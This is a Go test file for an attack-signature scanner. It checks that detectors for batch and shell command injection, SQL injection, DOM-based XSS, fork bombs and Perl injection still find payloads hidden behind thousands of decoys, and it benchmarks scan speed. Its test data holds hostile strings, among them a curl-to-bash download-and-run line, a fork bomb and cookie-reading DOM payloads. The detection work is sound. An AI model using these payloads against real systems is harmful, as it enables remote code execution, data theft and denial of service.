package signature

import (
	"strings"
	"testing"
)

// The scanners below read a value opening by opening (a separator, a
// quote, "::", "/*!", an object's name) and once stopped after a fixed
// number of openings. A value that led with that many decoys hid its
// payload. They now read every opening, and each reading ends where the
// next opening starts (or is shared with it), so a value of decoys costs
// time linear in its size; BenchmarkDecoys measures it.

type decoyCase struct {
	name    string
	scan    func(v string) bool
	decoy   string // an opening that is no payload
	payload string
}

var decoyCases = []decoyCase{
	{"batch.for", func(v string) bool { _, _, ok := batchStatement(v, classify(v), false); return ok },
		"&for %a in (", "& for /f %i in ('whoami') do echo %i"},
	{"batch.if", func(v string) bool { _, _, ok := batchStatement(v, classify(v), false); return ok },
		"|if (", "& if exist c:\\boot.ini ping -n 3 127.0.0.1"},
	{"batch.if_operand", func(v string) bool { _, _, ok := batchStatement(v, classify(v), false); return ok },
		"&if/", "& IF NOT DEFINED x ECHO y"},
	{"batch.path", func(v string) bool { _, _, ok := batchStatement(v, classify(v), true); return ok },
		"/if/", "/if exist c:\\boot.ini ping 127.0.0.1"},
	{"expansion", func(v string) bool { i, _, _ := shellExpansion(v, classify(v)); return i >= 0 },
		"a;", ";~+"},
	{"expansion.subshell", func(v string) bool { i, _, _ := shellExpansion(v, classify(v)); return i >= 0 },
		"a$(b", ";{,ifconfig}"},
	{"pipe_shell", func(v string) bool { _, _, ok := pipeToShell(v); return ok },
		"a | b ", "; curl http://x/s | bash"},
	{"here_string", func(v string) bool { _, _, ok := hereString(v); return ok },
		"x<<<y ", "; cat<<<id"},
	{"sqli.cast", func(v string) bool { i, _ := sqlCast(v); return i >= 0 },
		"std::string ", " unistr(password)::int"},
	{"sqli.json_condition", func(v string) bool { i, _ := sqlJSONCondition(v); return i >= 0 },
		"it's ", ` OR '{"b":2}'::jsonb <@ '{"a":1, "b":2}'`},
	{"sqli.versioned_comment", func(v string) bool { i, _ := sqlVersionedComment(v); return i >= 0 },
		"/*!x ", "1 /*!50000select*/ 1"},
	{"xss.dom", func(v string) bool { _, _, ok := domObfuscated(strings.ToLower(v)); return ok },
		"document ", `(document)["cookie"]`},
	{"fork_bomb", func(v string) bool { _, _, ok := forkBomb(v); return ok },
		"f(){ x }", ";:(){ :|:& };:"},
	{"perl_cart", func(v string) bool { _, _, ok := perlCart(v); return ok },
		"@{[", " @{[system 'id']}"},
	{"xss.dom_comment", func(v string) bool { _, _, ok := domObfuscated(strings.ToLower(v)); return ok },
		"document/*", `;document/**/.cookie`},
}

// TestDecoysHideNothing puts each payload after ten thousand decoys, far
// past the bounds of 16 to 64 openings the scanners once had, and checks
// it is found; the decoys alone are not.
func TestDecoysHideNothing(t *testing.T) {
	for _, c := range decoyCases {
		t.Run(c.name, func(t *testing.T) {
			if !c.scan(c.payload) {
				t.Fatalf("%q alone: not found", c.payload)
			}
			pad := strings.Repeat(c.decoy, 10000)
			if c.scan(pad) {
				t.Fatalf("%q repeated: found a payload in decoys", c.decoy)
			}
			if v := pad + c.payload; !c.scan(v) {
				t.Errorf("%q after 10000 decoys %q: not found", c.payload, c.decoy)
			}
		})
	}
}

// BenchmarkDecoys reads a mebibyte of each decoy; its MB/s is the cost of
// the worst value a scanner meets (go test -bench Decoys -benchmem).
func BenchmarkDecoys(b *testing.B) {
	for _, c := range decoyCases {
		v := strings.Repeat(c.decoy, (1<<20)/len(c.decoy))
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(v)))
			for b.Loop() {
				c.scan(v)
			}
		})
	}
}
